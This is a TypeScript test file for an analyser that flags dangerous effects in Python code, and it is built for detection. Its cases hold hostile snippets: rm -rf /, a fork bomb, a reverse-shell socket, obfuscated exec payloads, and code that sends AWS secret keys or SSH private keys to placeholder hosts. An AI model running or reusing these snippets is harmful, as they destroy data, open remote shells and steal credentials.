// What Python does, case by case; needs the parser of Python, and says so where that is not installed.

import { describe, expect, it } from 'vitest';
import { BudgetExceeded } from '../../../core/index.ts';
import { loadPython } from '../../../decide/tree-sitter.ts';
import type { AnalysisEnvironment, Effect, Facts, Languages, Target } from '../effects.ts';
import { analysePython, type ParsePython } from './index.ts';

const folders = (process.env['NODE_PATH'] ?? '').split(':').filter((folder) => folder !== '');
const parse: ParsePython | null = await loadPython({ folders }).catch(() => null);
if (!parse) console.warn('Skipped: web-tree-sitter and tree-sitter-python are not installed.');

const nothing: Facts = { effects: [], invocations: [], unknowns: [], errors: [] };

/** A shell that only says what it was given. */
const languages: Languages = {
  shell: (text) => ({
    ...nothing,
    effects: [
      {
        kind: 'inert',
        target: { kind: 'name', name: { kind: 'literal', text } },
        program: 'shell',
        through: [],
        span: [0, 0],
      },
    ],
    invocations: [
      {
        program: text.split(' ')[0] ?? null,
        given: { kind: 'literal', text: text.split(' ')[0] ?? '' },
        args: text
          .split(' ')
          .slice(1)
          .map((word) => ({ kind: 'literal', text: word })),
        through: [],
        span: [0, 0],
        builtin: false,
      },
    ],
  }),
  python: () => null,
  javascript: () => null,
};

const around: AnalysisEnvironment = { cwd: '/work/project', home: '/home/test', spend: () => {} };

function analyse(source: string): Facts {
  if (!parse) throw new Error('no parser');
  return analysePython(source, around, languages, parse);
}

function place(target: Target): string {
  if (target.kind === 'none') return '-';
  const value = target.kind === 'path' ? target.path : target.kind === 'host' ? target.host : target.name;
  const glob = target.kind === 'path' && target.glob ? ' (many)' : '';
  switch (value.kind) {
    case 'literal':
      return value.text + glob;
    case 'prefix':
      return `${value.text}…${glob}`;
    case 'choice':
      return value.texts.join('|') + glob;
    case 'unknown':
      return `?${glob}`;
  }
}

function findingsOf({ kind, target, detail, recursive, origins }: Effect): string {
  return [
    kind === 'inert' ? 'shell' : kind,
    place(target),
    detail,
    recursive ? 'recursive' : undefined,
    origins ? `from ${origins.join(',')}` : undefined,
  ]
    .filter((part) => part !== undefined)
    .join(' ');
}

const effectsOf = (source: string): readonly string[] => analyse(source).effects.map(findingsOf);

describe.skipIf(!parse)('effects of Python', () => {
  it.each<[source: string, effects: readonly string[]]>([
    // Files.
    ["import os\nos.remove('/etc/passwd')", ['delete /etc/passwd']],
    ["import os\nn = 1 if c else 2\nos.remove('/x/' + str(n * 2))", ['delete /x/2|/x/4']],
    ["import os\nos.remove('/x/' + str(7 // 2) + str(-7 % 3))", ['delete /x/32']],
    ["import os as o\no.unlink('a' + 'b')", ['delete ab']],
    ["from os import remove as r\nr('x')", ['delete x']],
    ["from os import *\nremove('x')", ['delete x']],
    ["import shutil\nshutil.rmtree('/etc')", ['delete /etc recursive']],
    ["import os\nos.rmdir('x')", ['delete x empty-folder']],
    ["import os\nos.rename('a', 'b')", ['delete a move', 'write b move']],
    ["import os\nos.chmod('/etc/x', 0o777)", ['mode /etc/x 777']],
    ["import os, stat\nos.chmod('x', stat.S_IRWXU | stat.S_IRWXG | stat.S_IRWXO)", ['mode x 777']],
    ["import os\nos.chown('x', 0, 0)", ['mode x 0:0']],
    ["open('x')", ['read x']],
    ["open('x', 'w').write('y')", ['write x overwrite']],
    [
      "with open('/home/test/.bashrc', 'a') as f:\n  f.write('alias')",
      ['write /home/test/.bashrc append', 'persist /home/test/.bashrc shell-start'],
    ],
    ["open('/dev/sda', 'wb')", ['device /dev/sda overwrite']],
    ["from pathlib import Path\n(Path('/etc') / 'x').unlink()", ['delete /etc/x']],
    [
      "from pathlib import Path\nPath.home().joinpath('.ssh').rmdir()",
      ['delete /home/test/.ssh empty-folder'],
    ],
    ["import pathlib\npathlib.Path('x').write_text('y')", ['write x overwrite']],
    ["import os\nos.remove(os.path.expanduser('~/x'))", ['delete /home/test/x']],
    ["import os\nos.chdir('/etc')\nos.remove('x')", ['delete /etc/x']],
    [
      "import glob, os\nfor f in glob.glob('/var/*'): os.remove(f)",
      ['read /var/* (many) list', 'delete /var/* (many)'],
    ],
    [
      "import os\nfor n in os.listdir('/var'): os.remove(os.path.join('/var', n))",
      ['read /var list', 'delete /var/… (many)'],
    ],
    [
      "import os\nfor root, _, files in os.walk('/v'):\n  for f in files: os.remove(os.path.join(root, f))",
      ['read /v list recursive', 'delete /v/… (many)'],
    ],
    ["import os\nlist(map(os.remove, ['a', 'b']))", ['delete a', 'delete b']],
    ['def clean(p):\n  p.unlink()', ['delete ?']],
    [
      "from pathlib import Path\nimport shutil\nshutil.rmtree(Path(__file__).parent / 'x')",
      ['delete /work/project/x recursive'],
    ],
    ["from pathlib import Path\nPath(p).parent.joinpath('x').unlink()", ['delete ?']],
    ["import os\nos.remove(os.path.join(os.path.dirname(p), 'x'))", ['delete ?']],
    // Names that are made.
    ["getattr(__import__('o' + 's'), 'evomer'[::-1])('x')", ['delete x']],
    ["import importlib\nimportlib.import_module('shutil').rmtree('x')", ['delete x recursive']],
    ["import sys, os\nsys.modules['os'].remove('x')", ['delete x']],
    ["import os\nvars(os)['remove']('x')", ['delete x']],
    ["import os\nos.__dict__['re' + 'move']('x')", ['delete x']],
    ["__builtins__.__import__('os').remove('x')", ['delete x']],
    ["import operator, os\noperator.attrgetter('remove')(os)('x')", ['delete x']],
    ["import functools, os\nfunctools.partial(os.remove, 'x')()", ['delete x']],
    ["import os\nf = {'a': os.remove}\nf['a']('x')", ['delete x']],
    ["import builtins, os\nbuiltins.print = os.remove\nprint('x')", ['delete x']],
    ["import subprocess\nsubprocess.os.remove('x')", ['delete x']],
    // Code in texts.
    ['exec("import os; os.remove(\'x\')")', ['delete x']],
    ["import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnJlbW92ZSgneCcp'))", ['delete x']],
    ["exec(bytes.fromhex('696d706f7274206f730a6f732e72656d6f766528277827290a'))", ['delete x']],
    ["import codecs\nexec(codecs.decode('vzcbeg bf; bf.erzbir(\"k\")', 'rot13'))", ['delete x']],
    [
      "exec(''.join(chr(c) for c in [105,109,112,111,114,116,32,111,115,59,111,115,46,114,101,109,111,118,101,40,39,120,39,41]))",
      ['delete x'],
    ],
    ["exec(compile('import os\\nos.remove(\"x\")', 'a', 'exec'))", ['delete x']],
    ["eval(\"__import__('os').remove('x')\")", ['delete x']],
    ['eval(input())', ['run - from unknown']],
    [
      "import requests\nexec(requests.get('http://e.example/x').text)",
      ['connect e.example GET', 'run - from network'],
    ],
    ["import pickle\npickle.loads(open('x', 'rb').read())", ['read x', 'run - deserialise from unknown']],
    [
      "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC+2BmK9otTc/LJUDfUKdU0AeQgIrg==')))",
      ['delete x'],
    ],
    [
      "import gzip, base64\nexec(gzip.decompress(base64.b64decode('H4sIAAAAAAACA8vMLcgvKlHIL7YGYr2i1Nz8slQN9Qp1TQCyfRC/GQAAAA==')))",
      ['delete x'],
    ],
    ["import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJw=')))", ['run - from unknown']],
    ["import os\ngetattr(os, name)('x')", ['run - from unknown']],
    // Constants.
    ["import os\np = '/{}/{name}'.format('etc', name='x')\nos.remove(p)", ['delete /etc/x']],
    ["import os\nos.remove('%s/%s' % ('a', 'b'))", ['delete a/b']],
    ["import os\nd = 'etc'\nos.remove(f'/{d}/{1 + 1}')", ['delete /etc/2']],
    ["import os\nos.remove('/'.join(['a', 'b']).upper().lower().replace('b', 'c'))", ['delete a/c']],
    ["import os\nx = 'a' if c else 'b'\nos.remove(x)", ['delete a|b']],
    ["import os\nfor x in ['a', 'b']: os.remove(x)", ['delete a', 'delete b']],
    ["import os\nif c: p = 'a'\nelse: p = 'b'\nos.remove(p)", ['delete a|b']],
    ["import os\nos.remove('/etc/' + x)", ['delete /etc/…']],
    // Functions and classes.
    [
      "import shutil\ndef wipe(p): shutil.rmtree(p)\nwipe('/a')\nwipe('/b')",
      ['delete /a recursive', 'delete /b recursive'],
    ],
    [
      "import os\nclass A:\n  def __init__(self, p): self.p = p\n  def go(self): os.remove(self.p)\nA('x').go()",
      ['delete x'],
    ],
    ["import os, threading\nthreading.Thread(target=os.remove, args=('x',)).start()", ['delete x']],
    [
      "import os, threading\nclass T(threading.Thread):\n  def run(self): os.remove('x')\nT().start()",
      ['delete x'],
    ],
    ["import os\nwith ThreadPool() as pool: pool.map(os.remove, ['x'])", ['delete x']],
    ["import os\ndef main():\n  os.remove('x')\nif __name__ == '__main__':\n  main()", ['delete x']],
    ["import os\ntry:\n  p = 'a'\n  f()\nexcept Exception:\n  os.remove(p)", ['delete a']],
    ["import os\nasync def main(): os.remove('x')\nimport asyncio\nasyncio.run(main())", ['delete x']],
    ["import os\n@app.route('/')\ndef handler(): os.remove('x')", ['delete x']],
    // Programs.
    ["import os\nos.system('rm -rf /')", ['shell rm -rf /']],
    ["import subprocess\nsubprocess.run('rm -rf /', shell=True)", ['shell rm -rf /']],
    ["import subprocess\nsubprocess.check_output(['rm', '-rf', 'a b'])", ["shell rm -rf 'a b'"]],
    ["from subprocess import Popen as P\nP(['rm', x])", ['shell rm "$unfollowed"']],
    ["import os\nos.system(f'rm {x}')", ['shell rm $unfollowed']],
    ['import os\nos.system(f"rm \'{x}/y\'")', ["shell rm ''\"$unfollowed\"'/y'"]],
    ["import os\nos.execvp('rm', ['rm', '-rf', '/'])", ['shell rm -rf /']],
    ["import os\nos.execl('/bin/rm', 'rm', '-rf', '/')", ['shell /bin/rm -rf /']],
    ["import pty\npty.spawn('/bin/sh')", ['shell /bin/sh']],
    ["import asyncio\nasyncio.create_subprocess_exec('rm', 'x')", ['shell rm x']],
    ['import os\nos.system(cmd)', ['run - from unknown']],
    ['import os\nos.kill(1, 9)', ['signal 1 9']],
    ['import os, signal\nos.kill(pid, signal.SIGKILL)', ['signal ? SIGKILL']],
    ['import psutil\nfor p in psutil.process_iter(): p.kill()', ['signal ? SIGKILL recursive']],
    ['import os\nos.setuid(0)', ['privilege 0 setuid']],
    ['import os\nwhile True: os.fork()', ['bomb - processes']],
    [
      'import multiprocessing\ndef f(): pass\nwhile 1: multiprocessing.Process(target=f).start()',
      ['bomb - processes'],
    ],
    ["a = []\nwhile True: a.append('x' * 1000000)", ['bomb - memory']],
    ["import ctypes\nctypes.CDLL('./x.so')", ['run ./x.so native from unknown']],
    ["import ctypes\nctypes.CDLL('libc.so.6').system(b'id')", ['shell id']],
    [
      "open('x.sh', 'w').write('id')\nimport os\nos.system('sh x.sh')",
      ['write x.sh overwrite', 'shell sh x.sh', 'run x.sh from written', 'shell id'],
    ],
    // Hosts.
    ["import requests\nrequests.get('http://a.example/x')", ['connect a.example GET']],
    [
      "import requests\ns = requests.Session()\ns.post('http://a.example', json={})",
      ['connect a.example POST'],
    ],
    [
      "import requests, os\nrequests.post('http://a.example', data=os.environ['AWS_SECRET_ACCESS_KEY'])",
      ['connect a.example POST from secret'],
    ],
    [
      "import requests, os\nrequests.get('http://a.example', headers={'Authorization': os.environ['TOKEN']})",
      ['connect a.example GET'],
    ],
    [
      "import requests, os\nrequests.post('http://a.example', json=dict(os.environ))",
      ['connect a.example POST from secret'],
    ],
    [
      "import requests\nd = open('/home/test/.ssh/id_rsa').read()\nrequests.get('http://a.example/?k=' + d)",
      [
        'read /home/test/.ssh/id_rsa',
        'secret /home/test/.ssh/id_rsa key',
        'connect a.example GET from secret',
      ],
    ],
    [
      "from urllib.request import urlopen, Request\nurlopen(Request('http://a.example', data=b'x'))",
      ['connect a.example POST'],
    ],
    [
      "import urllib.request\nurllib.request.urlretrieve('http://a.example/x', 'y')",
      ['connect a.example GET', 'write y download from network'],
    ],
    [
      "import http.client\nc = http.client.HTTPSConnection('a.example')\nc.request('PUT', '/x', 'b')",
      ['connect a.example PUT'],
    ],
    ["import socket\ns = socket.socket()\ns.connect(('a.example', 1))", ['connect a.example tcp']],
    ["import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 80))", ['listen 0.0.0.0 80']],
    [
      "import socket, os\ns = socket.socket()\ns.connect(('a.example', 1))\nos.dup2(s.fileno(), 0)",
      ['connect a.example tcp', 'run - shell from network'],
    ],
    [
      "import smtplib\nsmtplib.SMTP('m.example').sendmail('a', 'b', 'c')",
      ['connect m.example smtp', 'message m.example'],
    ],
    [
      "import ftplib\nf = ftplib.FTP('a.example')\nf.storbinary('STOR x', open('.env', 'rb'))",
      ['connect a.example ftp', 'read .env', 'secret .env environment', 'connect a.example PUT from secret'],
    ],
    [
      "import paramiko\nc = paramiko.SSHClient()\nc.connect('a.example')\nc.exec_command('rm x')",
      ['connect a.example ssh', 'shell rm x', 'run a.example remote from unknown'],
    ],
    // Services.
    ["cursor.execute('DROP TABLE users')", ['database DROP TABLE users drop']],
    ["cursor.execute('DELETE FROM users')", ['database DELETE FROM users truncate']],
    ["import boto3\nboto3.client('s3').delete_bucket(Bucket='x')", ['cloud - delete']],
    ["import boto3\nboto3.client('ec2').describe_instances()", ['cloud - read']],
    ['import docker\ndocker.from_env().volumes.prune()', ['container - prune']],
    ["import git\ngit.Repo('.').git.reset('--hard')", ['shell git reset --hard']],
  ])('%j', (source, expected) => {
    expect(effectsOf(source)).toEqual(expected);
  });

  it.each([
    "print('rm -rf /')",
    "# os.remove('/')\nx = 1",
    '"""shutil.rmtree(\'/\')"""',
    'x = \'import os; os.system("rm -rf /")\'',
    "items.remove('x')",
    "d = {'a': 1}\nd.pop('a')\nd.update(b=2)",
    'def add(a, b):\n  return a + b\nassert add(1, 2) == 3',
    'from typing import List\ndef f(n: List[int]) -> int:\n  """ doc >>> f([1]) """\n  return sum(x for x in n if x % 2)',
    "import re\nre.compile('rm -rf').match(s)",
    'import os\nprint(os.getcwd(), os.getpid(), os.path.exists("x"))',
    'class Stack:\n  def __init__(self): self.items = []\n  def push(self, x): self.items.append(x)\n  def pop(self): return self.items.pop()',
    "import os\nif False:\n  os.remove('x')",
    "import sys, os\nsys.exit(0)\nos.remove('x')",
    'while True:\n  n = f(n)\n  if n: break',
    'x = open\ny = __import__',
    "getattr(self, 'do_' + name)()",
  ])('sees nothing in %j', (source) => {
    const { effects, unknowns } = analyse(source);
    expect(effects.map(findingsOf)).toEqual([]);
    expect(unknowns).toEqual([]);
  });

  it('places each effect in the source, and inner code at the call that runs it', () => {
    const source = "import os\nos.remove('é')\nexec('os.remove(\"y\")')";
    expect(analyse(source).effects.map(({ span }) => source.slice(...span))).toEqual([
      "os.remove('é')",
      'exec(\'os.remove("y")\')',
    ]);
  });

  it('names the wrapper of a command', () => {
    const { effects, invocations } = analyse("import os\nos.system('ls')");
    expect(effects[0]).toMatchObject({ program: 'shell', through: ['os.system'] });
    expect(invocations[0]).toMatchObject({ program: 'ls', through: ['os.system'] });
  });

  it.each(['s = .t', 'def f(:\n  pass', 'class A(1 2):\n  pass', 'x = [y for in z]', 'import os as'])(
    'tells that a part cannot be read wherever it stands: %j',
    (source) => {
      expect(analyse(source).errors).not.toEqual([]);
    },
  );

  it('tells what it cannot read, and looks at the rest', () => {
    const { errors, effects } = analyse("import os\nos.remove('x')\ndef (:\n");
    expect(errors).not.toEqual([]);
    expect(effects.map(findingsOf)).toContain('delete x');
  });

  it.each([
    ['too long', 'x = 1\n'.repeat(20_000)],
    ['too many comments', '#\n'.repeat(2000)],
    ['too deep', '('.repeat(10_000)],
    ['too dense', '\\\n'.repeat(30_000)],
    ['too many tokens', '[1,'.repeat(20_000)],
    ['too many words', 'r '.repeat(20_000)],
    ['signs alone', `print${'/*'.repeat(400)}('x')`],
  ])('asks about code that is %s', (_, source) => {
    expect(analyse(source).effects.map(findingsOf)).toEqual(['run - from unknown']);
  });

  it('asks about code that its parser gave up on', () => {
    const givesUp: ParsePython = () => {
      throw new BudgetExceeded('the code takes too long to be read');
    };
    const facts = analysePython('x = 1', around, languages, givesUp);
    expect(facts.effects.map(findingsOf)).toEqual(['run - from unknown']);
    expect(facts.unknowns).toMatchObject([{ what: 'the code takes too long to be read' }]);
  });

  it.each([
    ['recursion', 'def f(n):\n  return f(n - 1) + f(n - 2)\nf(10)'],
    [
      'calls that double',
      `${Array.from({ length: 30 }, (_, index) => `def f${index}():\n  f${index + 1}()\n  f${index + 1}()\n`).join('')}f0()`,
    ],
    ['nested loops', 'for a in range(1000):\n for b in range(1000):\n  for c in range(1000):\n   x = a'],
    ['texts that double', `s = 'aaaaaaaa'\n${'s = s + s\n'.repeat(100)}`],
    ['exec in exec', "s = 'exec(s)'\nexec(s)"],
    [
      'nested blocks',
      Array.from({ length: 190 }, (_, index) => `${' '.repeat(index)}if x:\n`).join('') +
        `${' '.repeat(190)}pass`,
    ],
  ])('comes to an end with %s', (_, source) => {
    let steps = 0;
    if (!parse) throw new Error('no parser');
    analysePython(source, { ...around, spend: (more) => (steps += more) }, languages, parse);
    expect(steps).toBeLessThan(50_000);
  });

  it.each(['not ', 'lambda: ', '- '])('tells of expressions that are nested too deeply: %j', (operator) => {
    const { effects, errors } = analyse(`import os\nos.remove('x')\ny = ${operator.repeat(500)}z`);
    expect(effects.map(findingsOf)).toContain('delete x');
    expect(errors).toEqual(['expressions are nested too deeply']);
  });

  it('tells what it saw until the budget was spent', () => {
    let left = 20;
    const spend = (steps: number): void => {
      left -= steps;
      if (left < 0) throw new BudgetExceeded('spent');
    };
    const source = `import os\nos.remove('x')\n${'y = 1\n'.repeat(100)}`;
    if (!parse) throw new Error('no parser');
    const { effects, unknowns } = analysePython(source, { ...around, spend }, languages, parse);
    expect(effects.map(findingsOf)).toEqual(['delete x']);
    expect(unknowns).toHaveLength(1);
  });
});
